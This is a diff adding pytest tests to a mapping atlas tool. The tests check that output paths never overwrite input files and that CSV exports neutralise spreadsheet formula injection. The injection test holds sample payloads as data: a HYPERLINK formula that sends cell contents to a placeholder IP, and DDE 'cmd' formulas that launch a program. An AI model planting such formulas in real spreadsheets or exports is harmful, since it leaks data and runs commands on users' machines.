@@ -390,3 +390,145 @@ def test_bad_gpkg(tmp_path: Path, damaged: dict[str, Path], kind: str, command: 
     assert snapshot(tmp_path) == before
     assert_names(line, path, field, value)
     assert problem in line, line
+
+
+# ------------------------------------------------------------------ an output never replaces an input (issue 27)
+def _inputs(tmp_path: Path) -> dict[str, Path]:
+    """A copy of each file the atlas reads, and a link to the facts file, in tmp_path."""
+    import shutil
+
+    copies = {"facts": tmp_path / "facts.yaml", "claims": tmp_path / "claims.yaml", "gpkg": tmp_path / "atlas.gpkg"}
+    for name, path in copies.items():
+        shutil.copy(ROOT / "data" / {"facts": "facts.yaml", "claims": "claims.yaml", "gpkg": "atlas.gpkg"}[name], path)
+    (tmp_path / "facts-link.svg").symlink_to(copies["facts"])
+    return copies
+
+
+OVER_INPUTS = [  # (command and output options, with {facts}, {claims}, {gpkg}, {seed}, {tmp}; the option named)
+    ("export", ["--out", "{facts}"], "--out", "facts file"),
+    ("export", ["--out", "{tmp}/map.html", "--png", "{gpkg}"], "--png", "GeoPackage"),
+    ("export", ["--out", "{claims}"], "--out", "claims ledger"),
+    ("figure", ["--out", "{tmp}/facts-link.svg"], "--out", "facts file"),  # a link to the facts file
+    ("export", ["--out", "{tmp}/map.html", "--pdf", "{seed}"], "--pdf", "seed article"),
+    ("report", ["--out", "{gpkg}"], "--out", "GeoPackage"),
+    ("export", ["--out", "{tmp}/map.html", "--png", "{tmp}/map.html"], "--png", "also the output of --out"),
+    ("export", ["--out", "{tmp}/map.html", "--png", "{tmp}/s.png", "--pdf", "{tmp}/s.png"], "--pdf", "--png"),
+]
+
+
+@pytest.mark.parametrize(
+    ("command", "outputs", "flag", "said"), OVER_INPUTS, ids=[f"{c[0]} {c[2]} {c[3]}" for c in OVER_INPUTS]
+)
+def test_an_output_never_replaces_an_input_or_another_output(
+    tmp_path: Path, command: str, outputs: list[str], flag: str, said: str
+) -> None:
+    import hashlib
+
+    copies = _inputs(tmp_path)
+    seed = sorted((ROOT / "seeds").iterdir())[0]
+    values = {
+        "facts": copies["facts"],
+        "claims": copies["claims"],
+        "gpkg": copies["gpkg"],
+        "seed": seed,
+        "tmp": tmp_path,
+    }
+    args = [a.format(**values) for a in outputs]
+    reads = ["--facts", str(copies["facts"]), "--gpkg", str(copies["gpkg"])]
+    reads += ["--claims", str(copies["claims"])] if command == "export" else []
+    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in [*copies.values(), seed]}
+    listed = sorted(p.name for p in tmp_path.iterdir())
+    done = run(command, *args, *reads, "--on", DATE)
+    line = done.stderr.strip()
+    assert done.returncode == 2 and len(line.splitlines()) == 1 and "Traceback" not in line, line
+    assert flag in line and said in line, line
+    assert {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in before} == before  # every input as it was
+    assert sorted(p.name for p in tmp_path.iterdir()) == listed  # and nothing written
+
+
+def test_the_data_pipeline_refuses_to_write_over_the_facts_file(tmp_path: Path) -> None:
+    done = run("build-data", "--out", str(ROOT / "data" / "facts.yaml"))
+    assert done.returncode == 2 and "is the facts file the atlas reads" in done.stderr, done.stderr
+
+
+# ------------------------------------------------------------------ CSV cells are data (issue 27)
+FORMULAS = {
+    "link": '=HYPERLINK("http://192.0.2.1/?d="&A1&B1,"Estonia")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+}
+
+
+def _read_as_a_spreadsheet(data: bytes) -> list[list[str]]:
+    """The cells a spreadsheet's default CSV import reads (comma-separated, double-quoted, UTF-8)."""
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def _formula(cell: str) -> bool:
+    """Whether a spreadsheet would evaluate the cell: it starts a formula and is not a plain number."""
+    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False  # '-5' or '+2.5' is a number, read as one
+
+
+def test_no_csv_cell_the_atlas_writes_starts_a_formula(gpkg, tmp_path: Path) -> None:
+    """Every table of the report pack and the app's downloads (geo.tables.csv_bytes), built from facts whose names,
+    titles, notes and sources begin with formulas: each such cell is read back as text with a leading apostrophe,
+    the rest of it intact; numbers stay numbers.
+    """
+    import datetime as dt
+
+    from geo.changes import changes
+    from geo.facts import load_facts
+    from geo.settings import SEEDS_DIR
+    from geo.tables import border_table, changes_table, csv_bytes, parts_table, plans_table, status_table
+    from geo.view import map_view
+
+    data = yaml.safe_load(TEXT)
+    est = next(c for c in data["countries"] if c["iso3"] == "EST")
+    est["name"] = FORMULAS["link"]
+    data["plans"][0]["title"] = FORMULAS["plus"]
+    data["plans"][0]["note"] = FORMULAS["minus"]
+    data["borders"]["EST-RUS"][0]["covers"] = FORMULAS["tab"]
+    for source in data["sources"].values():
+        source["publisher"] = FORMULAS["at"]
+    data["plans"][1]["title"] = FORMULAS["return"]
+    path = tmp_path / "facts.yaml"
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    facts = load_facts(path, seeds_dir=SEEDS_DIR)
+    day = dt.date.fromisoformat(DATE)
+    view = map_view(gpkg, facts, day)
+    tables = {
+        "status": status_table(view.statuses, view.facts, day),
+        "plans": plans_table(view.plans),
+        "parts": parts_table(view.part_stages),
+        "borders": border_table(view.lengths.values()),
+        "changes": changes_table(changes(facts, dt.date(2025, 1, 1), day)),
+    }
+    seen = set()
+    for name, table in tables.items():
+        cells = [cell for row in _read_as_a_spreadsheet(csv_bytes(table)) for cell in row]
+        assert not [c for c in cells if _formula(c)], name
+        seen |= {
+            key
+            for key, attack in FORMULAS.items()
+            if any(c.startswith("'" + attack) or ("'" + attack) in c for c in cells)
+        }
+    assert seen == set(FORMULAS) - {"tab", "return"}, seen  # every attack reached a table, as text
+    # the facts loader strips a leading tab or carriage return from a text; a table's cell may still hold one
+    import pandas as pd
+
+    rows = _read_as_a_spreadsheet(csv_bytes(pd.DataFrame({"t": [FORMULAS["tab"], FORMULAS["return"]], "n": [-5, 2]})))
+    assert rows == [["t", "n"], ["'" + FORMULAS["tab"], "-5"], ["'" + FORMULAS["return"], "2"]]
+    numbers = _read_as_a_spreadsheet(csv_bytes(tables["borders"]))
+    assert all(float(v) for v in (row[numbers[0].index("computed_km")] for row in numbers[1:]))  # still numbers
